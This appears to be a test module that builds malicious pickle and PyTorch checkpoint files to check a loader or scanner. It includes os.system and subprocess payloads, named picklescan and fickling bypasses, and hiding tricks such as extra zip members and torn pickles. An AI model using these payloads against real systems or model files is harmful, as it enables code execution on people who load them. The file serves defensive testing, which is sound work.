"""Files that call: every opcode that can, and the published ways past scanners."""

import base64
import json
import pickle

from tests.attacks.builders import (
    CODE,
    COMMAND,
    attack,
    beside_weights,
    called,
    honest_pickle,
    name,
    number,
    pickled,
    raw_bytes,
    stack_name,
    storage,
    tensor,
    text,
    torch_zip,
    tuple_of,
    zipped,
)

SHELL, PYTHON = text(COMMAND), text(CODE)
EVIL = pickled(called("posix", "system", SHELL))


@attack("would_call")
def reduce_os_system() -> bytes:
    """The plain case of every advisory: GLOBAL os.system, REDUCE."""
    return torch_zip(beside_weights(called("os", "system", SHELL)))


@attack("would_call")
def reduce_posix_system() -> bytes:
    """The name under which pickle itself writes os.system on Linux."""
    return torch_zip(beside_weights(called("posix", "system", SHELL)))


@attack("would_call")
def stack_global_system() -> bytes:
    """STACK_GLOBAL, which scanners that look at GLOBAL alone miss."""
    return torch_zip(beside_weights(stack_name("posix", "system") + tuple_of(SHELL) + b"R"))


@attack("would_call")
def stack_global_through_memo() -> bytes:
    """STACK_GLOBAL with module and name from the memo in odd order (scanner family: backward search for strings)."""
    parts = text("system") + b"\x94" + text("posix") + b"\x94" + b"00" + b"h\x01h\x00\x93"
    return torch_zip(beside_weights(parts + tuple_of(SHELL) + b"R"))


@attack("would_call")
def inst_opcode() -> bytes:
    """INST of protocol 0."""
    return torch_zip(beside_weights(b"(" + SHELL + b"iposix\nsystem\n"))


@attack("would_call")
def obj_opcode() -> bytes:
    """OBJ of protocol 1."""
    return torch_zip(beside_weights(b"(" + name("posix", "system") + SHELL + b"o"))


@attack("would_call")
def newobj_popen() -> bytes:
    """NEWOBJ of subprocess.Popen."""
    return torch_zip(beside_weights(name("subprocess", "Popen") + tuple_of(SHELL) + b"\x81"))


@attack("would_call")
def newobj_ex_popen() -> bytes:
    """NEWOBJ_EX with keyword arguments."""
    return torch_zip(beside_weights(name("subprocess", "Popen") + b")}" + text("args") + SHELL + b"s\x92"))


@attack("would_set_state")
def build_on_a_function() -> bytes:
    """BUILD on an imported name replaces its attributes, so that a later honest call runs it."""
    return torch_zip(
        beside_weights(name("torch._utils", "_rebuild_tensor_v2") + b"}" + text("__code__") + b"Nsb")
    )


@attack("extension_code")
def ext1() -> bytes:
    """EXT1: a name from the copyreg registry, which no scanner can see."""
    return torch_zip(beside_weights(b"\x82\x01" + tuple_of(SHELL) + b"R"))


@attack("extension_code")
def ext2() -> bytes:
    """EXT2."""
    return torch_zip(beside_weights(b"\x83\x01\x00" + tuple_of(SHELL) + b"R"))


@attack("extension_code")
def ext4() -> bytes:
    """EXT4."""
    return torch_zip(beside_weights(b"\x84\x01\x00\x00\x00" + tuple_of(SHELL) + b"R"))


@attack("persistent_id")
def persid_text() -> bytes:
    """PERSID with a text that is no storage."""
    return torch_zip(beside_weights(b"P__import__('os').system\n"))


@attack("persistent_id")
def persid_of_a_call() -> bytes:
    """BINPERSID whose storage class is a name to call."""
    bad = tuple_of(text("storage"), name("posix", "system"), text("0"), text("cpu"), number(4)) + b"Q"
    return torch_zip(beside_weights(bad))


@attack("would_call")
def eval_builtin() -> bytes:
    """builtins.eval."""
    return torch_zip(beside_weights(called("builtins", "eval", PYTHON)))


@attack("would_call")
def exec_python2_name() -> bytes:
    """__builtin__.exec, which pickle maps to builtins."""
    return torch_zip(beside_weights(called("__builtin__", "exec", PYTHON)))


@attack("would_call")
def getattr_chain() -> bytes:
    """builtins.getattr builds the dangerous callable at load time (fickling bypass family)."""
    getter = called("builtins", "getattr", called("builtins", "__import__", text("os")), text("system"))
    return torch_zip(beside_weights(getter + tuple_of(SHELL) + b"R"))


@attack("would_call")
def pip_main() -> bytes:
    """CVE-2025-1716: pip.main was not on picklescan's blocklist."""
    return torch_zip(beside_weights(called("pip", "main", text("install"))))


@attack("would_call")
def timeit() -> bytes:
    """picklescan blocklist family: timeit.timeit."""
    return torch_zip(beside_weights(called("timeit", "timeit", PYTHON)))


@attack("would_call")
def asyncio_subprocess() -> bytes:
    """picklescan CVE-2025-10157: a submodule of a module that is blocked by exact name only."""
    return torch_zip(beside_weights(called("asyncio.unix_events", "_UnixSubprocessTransport._start", SHELL)))


@attack("would_call")
def torch_jit_unsupported() -> bytes:
    """picklescan bypass: torch.jit.unsupported_tensor_ops.execWrapper runs source text."""
    return torch_zip(
        beside_weights(called("torch.jit.unsupported_tensor_ops", "execWrapper", PYTHON, b"}", b"}"))
    )


@attack("would_call")
def torch_collect_env() -> bytes:
    """picklescan bypass: torch.utils.collect_env.run runs a shell command."""
    return torch_zip(beside_weights(called("torch.utils.collect_env", "run", SHELL)))


@attack("would_call")
def numpy_runstring() -> bytes:
    """picklescan bypass: numpy.testing._private.utils.runstring."""
    return torch_zip(beside_weights(called("numpy.testing._private.utils", "runstring", PYTHON, b"}")))


@attack("would_call")
def idlelib_run() -> bytes:
    """picklescan bypass: idlelib.run.Executive.runcode."""
    return torch_zip(beside_weights(called("idlelib.run", "Executive.runcode", SHELL)))


@attack("would_call")
def cprofile_run() -> bytes:
    """picklescan bypass: cProfile.run."""
    return torch_zip(beside_weights(called("cProfile", "run", PYTHON)))


@attack("would_call")
def pydoc_pipepager() -> bytes:
    """fickling bypass: pydoc.pipepager starts a process."""
    return torch_zip(beside_weights(called("pydoc", "pipepager", text("x"), SHELL)))


@attack("would_call")
def ctypes_load() -> bytes:
    """fickling bypass: ctypes.CDLL loads a library."""
    return torch_zip(beside_weights(called("ctypes", "CDLL", b"N")))


@attack("would_call")
def runpy_path() -> bytes:
    """fickling blocklist family: runpy.run_path."""
    return torch_zip(beside_weights(called("runpy", "run_path", text("x.py"))))


@attack("would_call")
def network_fetch() -> bytes:
    """Exfiltration rather than execution: urllib.request.urlopen."""
    return torch_zip(beside_weights(called("urllib.request", "urlopen", text("http://127.0.0.1:9/"))))


@attack("would_call")
def socket_lookup() -> bytes:
    """Exfiltration by DNS: socket.gethostbyname."""
    return torch_zip(beside_weights(called("socket", "gethostbyname", text("localhost"))))


@attack("would_call")
def dotted_name_through_torch() -> bytes:
    """A trusted module as a bridge: torch.serialization -> os.system by a dotted name."""
    return torch_zip(beside_weights(stack_name("torch.serialization", "os.system") + tuple_of(SHELL) + b"R"))


@attack("would_call")
def unknown_callable() -> bytes:
    """A module that no list can know."""
    return torch_zip(beside_weights(called("company_tools", "setup", SHELL)))


@attack("would_call")
def cloudpickle_function() -> bytes:
    """A function by value, as cloudpickle writes it: bytecode in the file."""
    return torch_zip(beside_weights(called("cloudpickle.cloudpickle", "_make_function", b"NNNNN")))


@attack("would_call")
def load_from_bytes() -> bytes:
    """torch.storage._load_from_bytes: an inner torch.load without weights_only."""
    return torch_zip(beside_weights(called("torch.storage", "_load_from_bytes", raw_bytes(EVIL))))


@attack("would_call")
def rebuild_from_type_of_system() -> bytes:
    """_rebuild_from_type_v2 calls its first argument."""
    call = called(
        "torch._tensor", "_rebuild_from_type_v2", name("posix", "system"), b"N", tuple_of(SHELL), b"}"
    )
    return torch_zip(beside_weights(call))


@attack("would_call")
def defaultdict_factory() -> bytes:
    """The call happens after loading, at the first missing key."""
    return torch_zip(beside_weights(called("collections", "defaultdict", name("builtins", "breakpoint"))))


@attack("would_call")
def newobj_by_copyreg() -> bytes:
    """copyreg.__newobj__ as a plain call."""
    return torch_zip(beside_weights(called("copyreg", "__newobj__", name("subprocess", "Popen"), SHELL)))


@attack("would_call")
def reconstructor() -> bytes:
    """copyreg._reconstructor of a class that needs no constructor."""
    call = called("copyreg", "_reconstructor", name("subprocess", "Popen"), name("builtins", "object"), b"N")
    return torch_zip(beside_weights(call))


@attack("would_call")
def call_of_a_result() -> bytes:
    """The callable is what an earlier call returned."""
    made = called("operator", "attrgetter", text("system"))
    return torch_zip(beside_weights(made + tuple_of(name("os", "path")) + b"R"))


@attack("would_import")
def import_only() -> bytes:
    """Importing already runs a module: antigravity opens a browser."""
    return torch_zip(beside_weights(name("antigravity", "fly")))


@attack("would_call")
def discarded_result() -> bytes:
    """The call's value is popped, so the loaded object looks honest."""
    return torch_zip(pickled(called("posix", "system", SHELL) + b"0" + honest_pickle()[2:-1]))


@attack("would_call")
def payload_then_break() -> bytes:
    """Torn-pickle family: the pickle breaks after its payload, scanners that raise report nothing."""
    return torch_zip(b"\x80\x02" + called("posix", "system", SHELL) + b"\xff\xff")


@attack("would_call")
def payload_after_stop() -> bytes:
    """A second pickle after STOP, for readers that load in a loop."""
    return torch_zip(honest_pickle() + pickled(called("posix", "system", SHELL)))


@attack("would_call")
def extra_pickle_member() -> bytes:
    """picklescan CVE-2025-1889: the payload is in another member under an honest-looking name."""
    return torch_zip(
        honest_pickle(), extra=[("archive/notes.txt", pickled(called("posix", "system", SHELL)))]
    )


@attack("would_call")
def bare_pickle_system() -> bytes:
    """pickle.load's own format, by the real pickle module."""

    class Evil:
        def __reduce__(self) -> tuple:
            import os

            return os.system, (COMMAND,)

    return pickle.dumps(Evil())


@attack("would_call")
def bare_pickle_protocol_0() -> bytes:
    """Protocol 0 has no signature at its start."""
    return b"cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."


@attack("would_call")
def sb3_data_entry() -> bytes:
    """A Stable-Baselines3 zip runs whatever base64 pickle stands in its JSON."""
    evil = base64.b64encode(pickled(called("posix", "system", SHELL))).decode()
    data = json.dumps({"lr_schedule": {":type:": "<class 'function'>", ":serialized:": evil}}).encode()
    return zipped([("data", data), ("policy.pth", torch_zip(honest_pickle()))])


@attack("would_call")
def sb3_inner_policy() -> bytes:
    """The payload is in the zip within the zip."""
    inner = torch_zip(beside_weights(called("posix", "system", SHELL)))
    return zipped([("data", b"{}"), ("policy.pth", inner)])


@attack("backward_hooks")
def tensor_hooks() -> bytes:
    """A tensor with backward hooks, which run at the first backward pass."""
    hooks = b"}" + text("hook") + text("x") + b"s"
    args = (storage(4), number(0), tuple_of(number(4)), tuple_of(number(1)), b"\x89", hooks)
    return torch_zip(beside_weights(called("torch._utils", "_rebuild_tensor_v2", *args)))


@attack("would_call")
def second_data_pkl() -> bytes:
    """Two checkpoints in one zip: which one is loaded depends on the reader."""
    evil = pickled(called("posix", "system", SHELL))
    return torch_zip(honest_pickle(), extra=[("other/data.pkl", evil)])


@attack("would_call")
def system_as_storage_argument() -> bytes:
    """The call hides among a tensor's arguments."""
    args = (storage(4), called("posix", "system", SHELL), tuple_of(number(4)), tuple_of(number(1)))
    return torch_zip(beside_weights(called("torch._utils", "_rebuild_tensor_v2", *args)))


@attack("would_call")
def call_as_a_key() -> bytes:
    """The call's value is a dict's key."""
    return torch_zip(pickled(b"}" + called("posix", "system", SHELL) + tensor(4, 0, (4,), (1,)) + b"s"))


@attack("would_call")
def python2_module_name() -> bytes:
    """An old module name that pickle maps on loading: commands.Popen is subprocess.Popen."""
    return torch_zip(beside_weights(name("commands", "Popen") + tuple_of(SHELL) + b"\x81"))
